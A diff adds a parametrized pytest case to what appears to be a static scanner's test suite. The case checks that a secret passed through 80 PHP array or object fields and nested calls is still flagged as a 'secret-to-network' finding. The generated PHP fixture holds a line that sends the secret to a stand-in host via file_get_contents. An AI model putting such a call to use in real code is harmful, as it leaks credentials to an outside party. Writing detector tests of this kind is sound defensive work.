@@ -48,3 +48,24 @@ def test_what_is_carried_is_found(name: str, levels: int, what: str, code: str, 
         return
     assert [one.severity for one in sent] == [Severity.CRITICAL]
     assert _HOST in sent[0].destinations
+
+
+_PARTS = range(80)
+_GIVEN = {
+    "list": ("$x['p{n}']", "$given = []; ", "$given['p{n}'] = {x}; "),
+    "object": ("$x->p{n}", "$given = new stdClass; ", "$given->p{n} = {x}; "),
+}
+
+
+@pytest.mark.parametrize("kind", _GIVEN)
+def test_of_more_parts_than_are_told_apart_none_is_lost(kind: str, tmp_path: Path) -> None:
+    read, made, put = _GIVEN[kind]
+    kept = " ".join(f"$GLOBALS['g{n}'] = {read.replace('{n}', str(n))};" for n in _PARTS)
+    levels = "\n".join(f"function keep{n}($x) {{ keep{n - 1}($x); }}" for n in range(1, 5))
+    given = made + "".join(put.replace("{n}", str(n)).replace("{x}", _SALT if n == 79 else "'x'") for n in _PARTS)
+    sent = "function go() { file_get_contents('https://carried.example.net/?' . $GLOBALS['g79']); } go();"
+    (tmp_path / "page.php").write_text(
+        f"<?php\nfunction keep0($x) {{ {kept} }}\n{levels}\n{given}\nkeep4($given);\n{sent}\n"
+    )
+    found = scan(str(tmp_path), ScanOptions(cache=None, jobs=1)).findings
+    assert [one.severity for one in found if one.rule == "secret-to-network"] == [Severity.CRITICAL]
